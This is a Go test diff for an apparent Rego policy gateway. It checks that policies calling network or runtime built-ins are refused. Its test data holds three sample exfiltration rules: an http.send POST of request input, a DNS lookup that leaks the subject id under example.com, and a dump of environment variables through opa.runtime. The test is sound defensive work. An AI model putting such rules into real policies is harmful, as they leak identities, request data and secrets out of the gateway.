@@ -719,3 +719,28 @@ func TestExplainOnError(t *testing.T) {
 		t.Fatalf("no trace written on error:\n%s", buf.String())
 	}
 }
+
+// TestNetworkBuiltinsAreRefused: a policy cannot send request data out of
+// the gateway (http.send, DNS lookups) or read its environment
+// (opa.runtime): such a policy does not load.
+func TestNetworkBuiltinsAreRefused(t *testing.T) {
+	t.Parallel()
+	for name, rule := range map[string]string{
+		"http.send":          `decision := {"allow": true} if http.send({"method": "POST", "url": "http://127.0.0.1:1/x", "body": input})`,
+		"net.lookup_ip_addr": `decision := {"allow": true} if net.lookup_ip_addr(concat(".", [input.subject.id, "example.com"]))`,
+		"opa.runtime":        `decision := {"allow": true, "reason": json.marshal(opa.runtime().env)}`,
+	} {
+		dir := t.TempDir()
+		writeFiles(t, dir, map[string]string{"veil.rego": "package veil\n\n" + rule + "\n"})
+		_, err := New(Config{Dir: dir}, Options{})
+		if !errors.Is(err, ErrCompile) || !strings.Contains(err.Error(), name) {
+			t.Errorf("%s: loaded (%v)", name, err)
+		}
+	}
+	// Ordinary built-ins still work.
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"veil.rego": "package veil\n\ndecision := {\"allow\": startswith(input.request.path, \"/crm/\")}\n"})
+	if _, err := New(Config{Dir: dir}, Options{}); err != nil {
+		t.Fatal(err)
+	}
+}
